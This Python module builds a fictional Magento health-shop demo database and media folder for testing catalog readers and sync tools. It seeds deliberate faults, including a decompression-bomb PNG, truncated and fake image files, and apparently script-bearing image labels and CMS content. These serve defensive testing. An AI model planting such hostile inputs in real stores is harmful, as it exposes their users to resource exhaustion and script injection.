                    "default_attribute_set_id",
                ),
                "eav_attribute": (
                    "attribute_id",
                    "entity_type_id",
                    "attribute_code",
                    "backend_type",
                    "frontend_input",
                    "frontend_label",
                    "is_required",
                ),
                "catalog_eav_attribute": ("attribute_id", "is_global", "is_searchable"),
                "catalog_product_link_type": ("link_type_id", "code"),
                "catalog_product_link_attribute": (
                    "product_link_attribute_id",
                    "link_type_id",
                    "product_link_attribute_code",
                    "data_type",
                ),
            }
        )

    # -- products -----------------------------------------------------------------------------

    def _product_columns(self) -> dict[str, Sequence[str]]:
        key = self.key
        entity = ["entity_id", "attribute_set_id", "type_id", "sku", "created_at", "updated_at"]
        if self.staging:
            entity = ["row_id", "entity_id", "created_in", "updated_in", *entity[1:]]
        values = ("value_id", "attribute_id", "store_id", key, "value")
        columns: dict[str, Sequence[str]] = {
            "catalog_product_entity": entity,
            **{
                f"catalog_product_entity_{t}": values
                for t in ("varchar", "int", "text", "decimal", "datetime")
            },
            "catalog_product_entity_media_gallery": (
                "value_id",
                "attribute_id",
                "value",
                "media_type",
                "disabled",
            ),
            "catalog_product_entity_media_gallery_value": (
                "record_id",
                "value_id",
                "store_id",
                key,
                "label",
                "position",
                "disabled",
            ),
            "catalog_product_entity_media_gallery_value_to_entity": ("value_id", key),
            "catalog_product_entity_media_gallery_value_video": (
                "value_id",
                "store_id",
                "provider",
                "url",
                "title",
                "description",
            ),
            "catalog_product_link": ("link_id", "product_id", "linked_product_id", "link_type_id"),
            "catalog_product_link_attribute_int": (
                "value_id",
                "product_link_attribute_id",
                "link_id",
                "value",
            ),
            "url_rewrite": _URL_REWRITE_COLUMNS,
        }
        if self.staging:
            columns["sequence_product"] = ("sequence_value",)
        return columns

    def write_products(self) -> None:
        columns = self._product_columns()
        for start in range(1, self.n + 1, _BATCH_PRODUCTS):
            stop = min(start + _BATCH_PRODUCTS, self.n + 1)
            for entity_id in range(start, stop):
                self._write_product(self._plan_product(entity_id))
            self._flush(columns)
            self.progress("products", stop - 1, self.n)

    def _plan_product(self, eid: int) -> _Product:
        rng = self.rng
        kind = _KINDS[eid % 3]
        name_en, name_de, stem, numbers = rng.choice(_CATALOG[kind])
        number = rng.choice(numbers)
        name_en, name_de = name_en.format(n=number), name_de.format(n=number)
        if rng.random() >= 0.8:
            name_de = None
        sku = _SPECIAL_SKUS.get(eid) or f"{kind}-{eid:06d}"
        status0 = 2 if eid % 45 == 9 else 1  # a few disabled everywhere
        status2 = 2 if status0 == 1 and eid % 20 == 6 else None  # some disabled in "de" only
        visibility = 1 if eid % 10 == 7 else 4
        price = f"{rng.uniform(2.5, 240):.2f}"
        news_from_date = None
        if rng.random() < 0.25:
            news_from_date = _timestamp(DEMO_EPOCH - timedelta(days=rng.randint(1, 120)))
        created = DEMO_EPOCH - timedelta(days=rng.randint(30, 900), seconds=rng.randint(0, 86_399))
        # Whole hours: many products share an updated_at, as after imports.
        updated = created + timedelta(days=rng.randint(0, 29))
        updated = max(created, updated.replace(minute=0, second=0))

        images = self._plan_gallery(eid, stem, name_en, name_de)
        thumbnail_none = rng.random() < 0.1
        swatch = rng.random() < 0.5
        image_de = None
        if len([i for i in images if i.media_type == "image"]) >= 2 and (
            eid % 40 == 8 or rng.random() < 0.08
        ):
            image_de = images[1].path
        links = self._plan_links(eid)

        if self.fault_targets.get("null_name") == eid:
            name_en = name_de = None
            self._fault("null_name", f"entity_id:{eid}", eid)
        url_en = f"{_slug(name_en or sku)}-{eid}"
        url_de = f"{_slug(name_de)}-{eid}" if name_de else None
        return _Product(
            entity_id=eid,
            kind=kind,
            sku=sku,
            name_en=name_en,
            name_de=name_de,
            url_key_en=url_en,
            url_key_de=url_de,
            status0=status0,
            status2=status2,
            visibility=visibility,
            price=price,
            news_from_date=news_from_date,
            created_at=_timestamp(created),
            updated_at=_timestamp(updated),
            images=images,
            thumbnail_none=thumbnail_none,
            swatch=swatch,
            image_de=image_de,
            links=links,
        )

    def _pick_format(self) -> str:
        roll = self.rng.random()
        return "jpg" if roll < 0.75 else ("png" if roll < 0.9 else "webp")

    def _plan_gallery(self, eid: int, stem: str, name_en: str, name_de: str | None) -> list[_Image]:
        rng = self.rng
        count = rng.randint(1, 5)
        positions = list(range(1, count + 1))
        if count >= 3 and rng.random() < 0.3:
            positions = [1, *range(count, 1, -1)]  # gallery order differs from value_id order
        images = []
        for k in range(count):
            fmt = self._pick_format()
            file_name = f"{stem}_{eid:06d}_{k + 1}.{fmt}"
            if k == 0 and eid == self.n:
                file_name = f"b.{fmt}"  # one-letter name: dispersion folder "_"
            view_en, view_de = _VIEWS[k % len(_VIEWS)]
            image = _Image(
                value_id=self._next("gallery"),
                path=gallery_path(file_name),
                fmt=fmt,
                position=positions[k],
                label_en=None if rng.random() < 0.1 else f"{name_en} – {view_en}",
            )
            if (eid % 30 == 13 and k == count - 1) or rng.random() < 0.02:
                image.store0_disabled = 1  # hidden in every store view
            if (eid % 25 == 11 and k == 0) or rng.random() < 0.3:
                image.store2_row = True
                image.label_de = f"{name_de or name_en} – {view_de}"
                image.store2_disabled = int((eid % 25 == 11 and k == 0) or rng.random() < 0.12)
            if eid % 60 == 21 and k == count - 1:
                image.gallery_disabled = 1
            images.append(image)
        if eid % 50 == 17:
            video_id = "".join(rng.choice(_YOUTUBE_ALPHABET) for _ in range(11))
            title = f"How to use: {name_en}"
            images.append(
                _Image(
                    value_id=self._next("gallery"),
                    path=gallery_path(f"hqdefault_{eid:06d}.jpg"),
                    fmt="jpg",
                    media_type="external-video",
                    position=count + 1,
                    label_en=title,
                    video=(
                        f"https://www.youtube.com/watch?v={video_id}",
                        title,
                        f"A short guide to {name_en}.",
                    ),
                )
            )
        for kind in ("missing_file", "truncated_jpeg", "decompression_bomb", "not_an_image", "script_label"):
            if self.fault_targets.get(kind) != eid:
                continue
            first = images[0]
            if kind == "decompression_bomb":
                first.fmt = "png"
            elif kind in ("truncated_jpeg", "not_an_image"):
                first.fmt = "jpg"
            first.path = first.path.rsplit(".", 1)[0] + "." + first.fmt
            if kind == "script_label":
                first.label_en = _SCRIPT_LABEL
                self._fault(kind, f"value_id:{first.value_id}", eid)
            else:
                self._fault(kind, first.path, eid)
        return images

    def _plan_links(self, eid: int) -> list[tuple[int, int, int]]:
        rng = self.rng
        links = []
        counts = {1: rng.choice((0, 1, 1, 2)), 4: rng.choice((0, 0, 1, 2)), 5: rng.choice((0, 0, 0, 1))}
        if eid % 40 == 9:
            counts[3] = 1  # grouped-product membership: a link, not a recommendation
        for link_type, count in counts.items():
            linked: list[int] = []
            while len(linked) < min(count, self.n - 1):
                other = rng.randint(1, self.n)
                if other != eid and other not in linked:
                    linked.append(other)
            # Positions run against insertion order, so only sorting by position gives the list.
            for index, other in enumerate(linked):
                links.append((link_type, other, (len(linked) - index) * 10))
        return links

    def _fault(self, kind: str, where: str, entity_id: int) -> None:
        self.faults.append((kind, where))
        self.fault_ids[kind] = entity_id

    def _versions(self, product: _Product) -> list[tuple[int, int, int, int, str]]:
        """(version, key value, created_in, updated_in, text prefix) per stored version."""
        eid = product.entity_id
        if not self.staging:
            return [(_LIVE, eid, 0, 0, "")]
        has_old, has_future = eid % 7 == 3, eid % 11 == 5
        base = _PRODUCT_ROW_BASE + 3 * eid
        live_from = STAGING_PAST_VERSION if has_old else 1
        live_to = STAGING_FUTURE_VERSION if has_future else STAGING_MAX_VERSION
        versions = [(_LIVE, base + _LIVE, live_from, live_to, "")]
        if has_old:
            versions.insert(0, (_OLD, base + _OLD, 1, STAGING_PAST_VERSION, "OLD "))
        if has_future:
            versions.append((_FUTURE, base + _FUTURE, STAGING_FUTURE_VERSION, STAGING_MAX_VERSION, "FUTURE "))
        return versions

    def _write_product(self, p: _Product) -> None:
        rows, attr = self.rows, self.attr
        eid = p.entity_id
        versions = self._versions(p)
        future_extra: _Image | None = None
        if any(v[0] == _FUTURE for v in versions):
            # A scheduled version adds an image: only a reader that mixes versions would see it.
            future_extra = _Image(
                value_id=self._next("gallery"),
                path=gallery_path(f"scheduled_{eid:06d}.jpg"),
                fmt="jpg",
                position=len(p.images) + 1,
                label_en=f"FUTURE {p.name_en or p.sku}",
            )
        for image in [*p.images, *([future_extra] if future_extra else [])]:
            rows["catalog_product_entity_media_gallery"].append(
                (image.value_id, attr["media_gallery"], image.path, image.media_type, image.gallery_disabled)
            )
            self.gallery_rows += 1
            if image.video:
                url, title, description = image.video
                rows["catalog_product_entity_media_gallery_value_video"].append(
                    (image.value_id, 0, "youtube", url, title, description)
                )
            self._write_image_file(image)

        for version, key, created_in, updated_in, text in versions:
            updated_at = p.updated_at
            if version == _OLD:
                updated_at = p.created_at
            entity = (eid, _ATTRIBUTE_SET_ID, "simple", p.sku, p.created_at, updated_at)
            if self.staging:
                entity = (key, eid, created_in, updated_in, *entity[1:])
            rows["catalog_product_entity"].append(entity)
            self._write_values(p, key, text)
            gallery = p.images + ([future_extra] if version == _FUTURE and future_extra else [])
            for image in gallery:
                self._write_gallery_values(image, key, text)
            links = list(p.links)
            if version == _FUTURE and not any(t == 5 for t, _, _ in links):
                links.append((5, eid % self.n + 1, 10))  # a cross-sell that does not exist yet
            for link_type, linked, position in links:
                link_id = self._next("link")
                rows["catalog_product_link"].append((link_id, key, linked, link_type))
                value_id = self._next("link_int")
                rows["catalog_product_link_attribute_int"].append(
                    (value_id, _POSITION_ATTRIBUTE[link_type], link_id, position)
                )
        if self.staging:
            rows["sequence_product"].append((eid,))

        # What a correct reader must find: live version only.
        self.gallery_pairs += len(p.images)
        for image in p.images:
            hidden_default = image.gallery_disabled or image.store0_disabled
            store2 = image.store2_disabled if image.store2_row else image.store0_disabled
            self.hidden["default"] += bool(hidden_default)
            self.hidden["de"] += bool(image.gallery_disabled or store2)
            self.videos += image.media_type == "external-video"
        for link_type, _, _ in p.links:
            self.link_counts[_LINK_TYPES[link_type]] += 1
        self.recommendations += len({t for t, _, _ in p.links if t in _RECOMMENDATION_TYPES})
        for store_id in STORE_CODES:
            url_key = p.url_key_de if store_id == 2 and p.url_key_de else p.url_key_en
            self._url_rewrite("product", eid, f"{url_key}.html", f"catalog/product/view/id/{eid}", store_id)

    def _write_values(self, p: _Product, key: int, text: str) -> None:
        rows, attr = self.rows, self.attr

        def add(backend: str, code: str, store_id: int, value) -> None:
            table = f"catalog_product_entity_{backend}"
            rows[table].append((self._next(table), attr[code], store_id, key, value))

        add("varchar", "name", 0, f"{text}{p.name_en}" if p.name_en is not None else None)
        add("varchar", "url_key", 0, p.url_key_en)
        first = p.images[0].path
        add("varchar", "image", 0, first)
        add("varchar", "small_image", 0, first)
        add("varchar", "thumbnail", 0, "no_selection" if p.thumbnail_none else first)
        add("varchar", "swatch_image", 0, first if p.swatch else "no_selection")
        if p.name_de:
            add("varchar", "name", 2, f"{text}{p.name_de}")
            add("varchar", "url_key", 2, p.url_key_de)
        if p.image_de:
            add("varchar", "image", 2, p.image_de)
        add("int", "status", 0, p.status0)
        add("int", "visibility", 0, p.visibility)
        if p.status2 is not None:
            add("int", "status", 2, p.status2)
        english, german = _DESCRIPTIONS[p.kind]
        add("text", "description", 0, english.format(name=p.name_en or p.sku))
        if p.name_de:
            add("text", "description", 2, german.format(name=p.name_de))
        add("decimal", "price", 0, p.price)
        if p.news_from_date:
            add("datetime", "news_from_date", 0, p.news_from_date)

    def _write_gallery_values(self, image: _Image, key: int, text: str) -> None:
        values = self.rows["catalog_product_entity_media_gallery_value"]
        label = image.label_en if image.label_en is None or not text else f"{text}{image.label_en}"
        values.append(
            (self._next("record"), image.value_id, 0, key, label, image.position, image.store0_disabled)
        )
        if image.store2_row:
            label_de = f"{text}{image.label_de}" if text else image.label_de
            values.append(
                (
                    self._next("record"),
                    image.value_id,
                    2,
                    key,
                    label_de,
                    image.position,
                    image.store2_disabled,
                )
            )
        self.rows["catalog_product_entity_media_gallery_value_to_entity"].append((image.value_id, key))

    def _write_image_file(self, image: _Image) -> None:
        # The choice of bytes uses its own random stream, so rows do not depend on media_root.
        rng = self.file_rng
        ai_roll = rng.random()
        if image.fmt == "png":
            self.png_count += 1
        kind = next((k for k, where in self.faults if where == image.path), None)
        if self.pool is None or kind == "missing_file":
            return
        if kind == "truncated_jpeg":
            data = self.pool.plain["jpg"][0]
            self._write_file(image.path, data[: len(data) // 2])
        elif kind == "decompression_bomb":
            self._write_file(image.path, _decompression_bomb_png())
        elif kind == "not_an_image":
            self._write_file(image.path, _NOT_AN_IMAGE)
        elif image.fmt == "png" and self.png_count % 20 == 3:
            self._write_file(image.path, rng.choice(self.pool.parameters))
            self.parameters += 1
        elif ai_roll < 0.04 and self.pool.c2pa_signed:
            self._write_file(image.path, rng.choice(self.pool.c2pa_signed[image.fmt]))
            self.ai_marked += 1
            self.c2pa_signed += 1
        elif ai_roll < 0.1:
            self._write_file(image.path, rng.choice(self.pool.ai_marked[image.fmt]))
            self.ai_marked += 1
        elif ai_roll < 0.115 and image.fmt == "jpg" and self.pool.c2pa_tampered:
            self._write_file(image.path, rng.choice(self.pool.c2pa_tampered))
            self.c2pa_tampered += 1
        else:
            self._write_file(image.path, rng.choice(self.pool.plain[image.fmt]))

    def _url_rewrite(
        self, entity_type: str, entity_id: int, request: str, target: str, store_id: int
    ) -> None:
        self.rows["url_rewrite"].append(
            (self._next("url_rewrite"), entity_type, entity_id, request, target, 0, store_id, 1)
        )
        self.url_rewrites += 1

    # -- CMS ----------------------------------------------------------------------------------

    def write_cms(self) -> None:
        rng = random.Random(f"{self.seed}:cms")
        total = max(self.n // 50, 11)
        n_blocks = max(6, total * 3 // 5)
        n_pages = max(5, total - n_blocks)
        for i in range(n_blocks):
            self._write_cms_item("cms_block", i, rng)
        for i in range(n_pages):
            self._write_cms_item("cms_page", i, rng)
        self.block_count, self.page_count = n_blocks, n_pages
        block_columns = [
            "block_id",
            "title",
            "identifier",
            "content",
            "creation_time",
            "update_time",
            "is_active",
        ]
        page_columns = [
            "page_id",
            "title",
            "page_layout",
            "meta_keywords",
            "meta_description",
            "identifier",
            "content_heading",
            "content",
            "creation_time",
            "update_time",
            "is_active",
            "sort_order",
            "meta_title",
        ]
        if self.staging:
            block_columns = ["row_id", block_columns[0], "created_in", "updated_in", *block_columns[1:]]
            page_columns = ["row_id", page_columns[0], "created_in", "updated_in", *page_columns[1:]]
        columns: dict[str, Sequence[str]] = {
            "cms_block": block_columns,
            "cms_block_store": ("row_id" if self.staging else "block_id", "store_id"),
            "cms_page": page_columns,
            "cms_page_store": ("row_id" if self.staging else "page_id", "store_id"),
            "url_rewrite": _URL_REWRITE_COLUMNS,
        }
        if self.staging:
            columns["sequence_cms_block"] = ("sequence_value",)
            columns["sequence_cms_page"] = ("sequence_value",)
        self._flush(columns)
        self.progress("cms", n_blocks + n_pages, n_blocks + n_pages)

    def _write_cms_item(self, table: str, i: int, rng: random.Random) -> None:
        item_id = i + 1
        is_block = table == "cms_block"
        pattern = i % 6 if is_block else i % 5
        stores = {0: (0,), 1: (1,), 2: (2,), 3: (0,), 4: (1, 2), 5: (1,)}[pattern]
        german = stores == (2,)
        title_en, title_de, body_en, body_de = _TOPICS[(i + (0 if is_block else 3)) % len(_TOPICS)]
        title = title_de if german else title_en
        identifier = f"{_slug(title_en)}-{item_id}"
        if is_block and i in (1, 2):
            identifier = "patient-notice"  # one identifier, two blocks, two store views
        if not is_block and i in (1, 2):
            identifier = "shipping-and-returns"
            title = "Versand und Rückgabe" if german else "Shipping and returns"
        if not is_block and i == 0:
            identifier, title = "home", "Home page"
        if not is_block and i == 3:
            identifier, title = "no-route", "404 Not Found"
        paragraphs = body_de if german else body_en
        disclaimer = _DISCLAIMER[1] if german else _DISCLAIMER[0]
        tip = _ASK_PHARMACIST[1] if german else _ASK_PHARMACIST[0]
        content = (
            f"<h2>{title}</h2>\n<p>{paragraphs[0]}</p>\n"
            f"<ul>\n  <li>{paragraphs[1]}</li>\n  <li>{tip}</li>\n</ul>\n"
            f"<p><small>{disclaimer}</small></p>"
        )
        if i % 4 == 0:
            content += '\n<p><a href="{{store url="customer-service"}}">Customer service</a></p>'
        if is_block and i == 3 and self.with_faults:
            content = _BROKEN_CMS
            self.faults.append(("cms_script", f"block_id:{item_id}"))
        is_active = 0 if (is_block and i % 7 == 5) or (not is_block and i % 5 == 4) else 1
        created = DEMO_EPOCH - timedelta(days=rng.randint(100, 700), seconds=rng.randint(0, 86_399))
        updated = created + timedelta(days=rng.randint(0, 90), seconds=rng.randint(0, 3_600))

        versions = [(_LIVE, item_id, 1, STAGING_MAX_VERSION, "", stores)]
        if self.staging:
            base = _CMS_ROW_BASE + 3 * item_id
            has_old, has_future = i % 4 == 2, i % 5 == 1
            live_from = STAGING_PAST_VERSION if has_old else 1
            live_to = STAGING_FUTURE_VERSION if has_future else STAGING_MAX_VERSION
            versions = [(_LIVE, base + _LIVE, live_from, live_to, "", stores)]
            if has_old:
                versions.insert(0, (_OLD, base + _OLD, 1, STAGING_PAST_VERSION, "OLD ", stores))
            if has_future:
                # The scheduled version also reaches another store view.
                wider = tuple(sorted({*stores, 1, 2})) if 0 not in stores else stores
                versions.append(
                    (_FUTURE, base + _FUTURE, STAGING_FUTURE_VERSION, STAGING_MAX_VERSION, "FUTURE ", wider)
                )
            self.rows["sequence_" + table].append((item_id,))

        for _version, key, created_in, updated_in, text, version_stores in versions:
            version_content = f"<p>{text.strip()}</p>{content}" if text else content
            version_title = f"{text}{title}"
            stamps = (_timestamp(created), _timestamp(updated))
            if is_block:
                row = (item_id, version_title, identifier, version_content, *stamps, is_active)
            else:
                row = (
                    item_id,
                    version_title,
                    _PAGE_LAYOUTS[i % len(_PAGE_LAYOUTS)],
                    f"{title_en.lower()}, health, advice",
                    f"{title}: general information for patients and carers.",
                    identifier,
                    version_title,
                    version_content,
                    *stamps,
                    is_active,
                    i,
                    f"{version_title} | Example Health Shop",
                )
            if self.staging:
                row = (key, row[0], created_in, updated_in, *row[1:])
            self.rows[table].append(row)
            self.rows[table + "_store"].extend((key, store_id) for store_id in version_stores)

        surface = table
        for store_id, code in STORE_CODES.items():
            if 0 in stores or store_id in stores:
                self.cms_expected[code][surface] += 1
                if not is_block:
                    self._url_rewrite(
                        "cms-page", item_id, identifier, f"cms/page/view/page_id/{item_id}", store_id
                    )

    # -- summary ------------------------------------------------------------------------------

    def write_sales(self) -> None:
        """Customers, quotes, orders and payments: shoppers and a few deliberate test records."""
        stamp = _timestamp(DEMO_EPOCH - timedelta(days=30))
        self.rows["customer_entity"] = [
            (eid, 1, email, 1, store, stamp, stamp, 1, first, last)
            for eid, email, first, last, store in _DEMO_CUSTOMERS
        ]
        self.rows["quote"] = [
            (eid, store, stamp, stamp, 0, cid, email, first, last, guest, None)
            for eid, cid, email, first, last, store, guest in _DEMO_QUOTES
        ]
        self.rows["sales_order"] = [
            (eid, "complete", "complete", store, cid, total, inc, email, first, last, guest, stamp)
            for eid, inc, cid, email, first, last, store, guest, total, _ in _DEMO_ORDERS
        ]
        self.rows["sales_order_payment"] = [(o[0], o[0], o[8], o[9]) for o in _DEMO_ORDERS]
        self._flush(
            {
                "customer_entity": (
                    "entity_id",
                    "website_id",
                    "email",
                    "group_id",
                    "store_id",
                    "created_at",
                    "updated_at",
                    "is_active",
                    "firstname",
                    "lastname",
                ),
                "quote": (
                    "entity_id",
                    "store_id",
                    "created_at",
                    "updated_at",
                    "is_active",
                    "customer_id",
                    "customer_email",
                    "customer_firstname",
                    "customer_lastname",
                    "customer_is_guest",
                    "reserved_order_id",
                ),
                "sales_order": (
                    "entity_id",
                    "state",
                    "status",
                    "store_id",
                    "customer_id",
                    "grand_total",
                    "increment_id",
                    "customer_email",
                    "customer_firstname",
                    "customer_lastname",
                    "customer_is_guest",
                    "created_at",
                ),
                "sales_order_payment": ("entity_id", "parent_id", "amount_ordered", "method"),
            }
        )

    def summary(self, media_root: Path | None) -> DemoSummary:
        expected = {}
        for code in STORE_CODES.values():
            expected[code] = {
                "product_image": self.gallery_pairs,
                "cms_block": self.cms_expected[code]["cms_block"],
                "cms_page": self.cms_expected[code]["cms_page"],
                "recommendation": self.recommendations,
            }
        return DemoSummary(
            products=self.n,
            gallery_entries=self.gallery_pairs,
            gallery_rows=self.gallery_rows,
            images_on_disk=self.files_written,
            ai_marked_images=self.ai_marked,
            parameters_images=self.parameters,
            c2pa_images=self.c2pa_signed,
            c2pa_tampered_images=self.c2pa_tampered,
            videos=self.videos,
            blocks=self.block_count,
            pages=self.page_count,
            links=dict(self.link_counts),
            url_rewrites=self.url_rewrites,
            stores=("admin", *STORE_CODES.values()),
            faults=list(self.faults),
            expected_items=expected,
            expected_hidden_images=dict(self.hidden),
            product_entity_type_id=_ENTITY_TYPES["catalog_product"][0] + self.entity_type_offset,
            attribute_ids=dict(self.attr),
            staging=self.staging,
            prefix=self.prefix,
            seed=self.seed,
            media_root=str(media_root) if media_root else None,
            fault_entity_ids=dict(self.fault_ids),
        )


# Customers, quotes and orders of the demo store (fictional): shoppers, and the records a careless test
# pipeline left in "production", which the separation checks must find. (table, entity_id) of each
# deliberate test record -> the kind of marker that finds it with the default markers.
DEMO_TEST_RECORDS: dict[tuple[str, int], str] = {
    ("customer_entity", 4): "email_domain",
    ("customer_entity", 5): "email_domain",
    ("customer_entity", 6): "name_pattern",
    ("quote", 3): "email_domain",
    ("quote", 4): "name_pattern",
    ("sales_order", 3): "email_domain",
    ("sales_order", 4): "email_domain",
    ("sales_order_payment", 3): "payment_method",
    ("sales_order_payment", 4): "payment_method",
}
_DEMO_CUSTOMERS = (
    # entity_id, email, firstname, lastname, store_id
    (1, "m.keller@mail.demo-clinic.example", "Marta", "Keller", 1),
    (2, "j.okafor@mail.demo-clinic.example", "Jide", "Okafor", 1),
    (3, "l.brandt@post.demo-praxis.example", "Lena", "Brandt", 2),
    (4, "ci-pipeline+482@example.com", "Pipeline", "Runner", 1),
    (5, "qa.checkout@test.invalid", "Quinn", "Assurance", 2),
    (6, "s.lorenz@mail.demo-clinic.example", "Test", "Lorenz", 1),
)
_DEMO_QUOTES = (
    # entity_id, customer_id, email, firstname, lastname, store_id, is_guest
    (1, 1, "m.keller@mail.demo-clinic.example", "Marta", "Keller", 1, 0),
    (2, None, "guest.7731@post.demo-praxis.example", "Aylin", "Demir", 2, 1),
    (3, 4, "ci-pipeline+482@example.com", "Pipeline", "Runner", 1, 0),
    (4, None, "p.weiss@mail.demo-clinic.example", "Synthetic", "Patient", 1, 1),
)
_DEMO_ORDERS = (
    # entity_id, increment_id, customer_id, email, firstname, lastname, store_id, is_guest, total, method
    (1, "000000001", 1, "m.keller@mail.demo-clinic.example", "Marta", "Keller", 1, 0, "42.9000", "braintree"),
    (
        2,
        "000000002",
        3,
        "l.brandt@post.demo-praxis.example",
        "Lena",
        "Brandt",
        2,
        0,
        "18.5000",
        "paypal_express",
    ),
    (3, "000000003", 4, "ci-pipeline+482@example.com", "Pipeline", "Runner", 1, 0, "9.9900", "checkmo"),
    (4, "000000004", None, "qa.checkout@test.invalid", "Quinn", "Assurance", 2, 1, "0.0000", "free"),
)


_YOUTUBE_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-"
_URL_REWRITE_COLUMNS = (
    "url_rewrite_id",
    "entity_type",
    "entity_id",
    "request_path",
    "target_path",
    "redirect_type",
    "store_id",
    "is_autogenerated",
)


def _refuse_foreign_database(conn, engine: str, prefix: str) -> None:
    """Raise unless the tables are absent or were written by this module."""
    cur = conn.cursor()
    try:
        if not _table_exists(cur, engine, prefix + "catalog_product_entity"):
            return
        if _table_exists(cur, engine, prefix + "core_config_data"):
            table = _quote(engine, prefix + "core_config_data")
            cur.execute(
                placeholder_sql(f"SELECT COUNT(*) FROM {table} WHERE path = %s", engine), (MARKER_PATH,)
            )
            if cur.fetchone()[0]:
                return
    finally:
        cur.close()
    raise DemoStoreError(
        f"the database already holds Magento tables ({prefix}catalog_product_entity) that the demo "
        "store did not write; refusing to drop them (pass force=True to overwrite)"
    )


def build_demo_store(
    db: DatabaseUrl | str,
    *,
    products: int = 200,
    media_root: Path | str | None = None,
    staging: bool = False,
    prefix: str = "",
    seed: int = 0,
    faults: bool = True,
    progress: Callable[[str, int, int], None] | None = None,
    force: bool = False,
    c2pa: SigningCredentials | None = None,
) -> DemoSummary:
    """Drop and recreate the Magento tables in ``db`` and fill them with the demo store.

    ``media_root`` is Magento's ``pub/media``: gallery files go to ``<media_root>/catalog/product``
    (none are written without it). ``staging`` builds the Adobe Commerce content-staging layout.
    ``progress(phase, done, total)`` is called as phases finish and after every product batch.
    Refuses to drop Magento tables it did not write itself unless ``force`` is set. With ``c2pa``
    signing credentials, some AI-marked files also carry a signed C2PA manifest and a few C2PA-signed
    JPEGs are changed after signing (signatures differ on every build, so such stores are not
    byte-for-byte reproducible).
    """
    if products < MIN_PRODUCTS:
        raise DemoStoreError(f"the demo store needs at least {MIN_PRODUCTS} products, not {products}")
    if prefix and not all(c.isalnum() or c == "_" for c in prefix):
        raise DemoStoreError(f"table prefix {prefix!r}: use letters, digits and underscores")
    url = _as_url(db)
    root = Path(media_root) if media_root else None
    conn = _open(url, create_database=True)
    try:
        if not force:
            _refuse_foreign_database(conn, url.engine, prefix)
        report = progress or (lambda phase, done, total: None)
        create_schema(conn, url.engine, prefix=prefix, staging=staging)
        report("schema", 1, 1)
        builder = _StoreBuilder(
            conn,
            url.engine,
            products=products,
            media_root=root,
            staging=staging,
            prefix=prefix,
            seed=seed,
            faults=faults,
            progress=progress,
            c2pa=c2pa,
        )
        builder.write_stores()
        builder.write_eav()
        report("stores", 1, 1)
        builder.write_products()
        builder.write_cms()
        builder.write_sales()
        return builder.summary(root)
    finally:
        conn.close()


# -- changes after the build -----------------------------------------------------------------


def _live_keys(cur, engine: str, prefix: str, staging: bool, entity_ids: Sequence[int]) -> dict[int, int]:
    """entity_id -> the key its value rows use (the live row_id with staging)."""
    if not staging:
        return {int(eid): int(eid) for eid in entity_ids}
    version = int(time.time())
    table = _quote(engine, prefix + "catalog_product_entity")
    keys: dict[int, int] = {}
    for chunk in _chunks(entity_ids, 500):
        marks = ", ".join(["%s"] * len(chunk))
        sql = (
            f"SELECT entity_id, row_id FROM {table} WHERE entity_id IN ({marks}) "
            "AND created_in <= %s AND updated_in > %s"
        )
        cur.execute(placeholder_sql(sql, engine), (*chunk, version, version))
        keys.update({int(eid): int(row_id) for eid, row_id in cur.fetchall()})
    return keys


def _chunks(items: Sequence[int], size: int) -> Iterable[list[int]]:
    items = list(items)
    for start in range(0, len(items), size):
        yield items[start : start + size]


def _relabel_first_images(
    db: DatabaseUrl | str,
    entity_ids: Iterable[int],
    *,
    prefix: str,
    staging: bool,
    new_label: str,
    bump: bool,
) -> int:
    url = _as_url(db)
    engine = url.engine
    key = "row_id" if staging else "entity_id"
    values = _quote(engine, prefix + "catalog_product_entity_media_gallery_value")
    entities = _quote(engine, prefix + "catalog_product_entity")
    conn = _open(url)
    try:
        cur = conn.cursor()
        if engine == "mysql":
            conn.begin()
        keys = _live_keys(cur, engine, prefix, staging, list(entity_ids))
        first: dict[int, tuple[int, int]] = {}  # key -> (position, value_id)
        for chunk in _chunks(list(keys.values()), 500):
            marks = ", ".join(["%s"] * len(chunk))
            cur.execute(
                placeholder_sql(
                    f"SELECT {key}, value_id, position FROM {values}"
                    f" WHERE store_id = 0 AND {key} IN ({marks})",
                    engine,
                ),
                chunk,
            )
            for row_key, value_id, position in cur.fetchall():
                candidate = (position if position is not None else 1 << 31, int(value_id))
                if int(row_key) not in first or candidate < first[int(row_key)]:
                    first[int(row_key)] = candidate
        cur.executemany(
            placeholder_sql(
                f"UPDATE {values} SET label = %s WHERE store_id = 0 AND value_id = %s AND {key} = %s", engine
            ),
            [(new_label, value_id, row_key) for row_key, (_, value_id) in sorted(first.items())],
        )
        if bump and first:
            cur.execute(f"SELECT MAX(updated_at) FROM {entities}")
            latest = cur.fetchone()[0]
            if isinstance(latest, str):
                latest = datetime.strptime(latest, "%Y-%m-%d %H:%M:%S")
            stamp = datetime.now(UTC).replace(tzinfo=None, microsecond=0)
            if latest is not None and latest >= stamp:
                stamp = latest + timedelta(seconds=1)
            for chunk in _chunks(sorted(first), 500):
                marks = ", ".join(["%s"] * len(chunk))
                cur.execute(
                    placeholder_sql(
                        f"UPDATE {entities} SET updated_at = %s WHERE {key} IN ({marks})", engine
                    ),
                    (_timestamp(stamp), *chunk),
                )
        conn.commit()
        cur.close()
        return len(first)
    finally:
        conn.close()


def touch_products(
    db: DatabaseUrl | str,
    entity_ids: Iterable[int],
    *,
    prefix: str = "",
    staging: bool = False,
    new_label: str,
) -> int:
    """Relabel each product's first gallery image (store 0) and bump its ``updated_at``.

    This is what a save in the Magento admin does. ``updated_at`` becomes the current time, or one
    second past the newest ``updated_at`` in the table if that is later. Returns how many
    products changed.
    """
    return _relabel_first_images(
        db, entity_ids, prefix=prefix, staging=staging, new_label=new_label, bump=True
    )


def mass_update_labels(
    db: DatabaseUrl | str,
    entity_ids: Iterable[int],
    *,
    prefix: str = "",
    staging: bool = False,
    new_label: str,
) -> int:
    """Relabel each product's first gallery image (store 0) and leave ``updated_at`` alone.

    Magento's mass attribute updates, ``saveAttribute()`` and SQL imports change content this way,
    which is why incremental syncs need periodic full reconciles. Returns how many products changed.
    """
    return _relabel_first_images(
        db, entity_ids, prefix=prefix, staging=staging, new_label=new_label, bump=False
    )
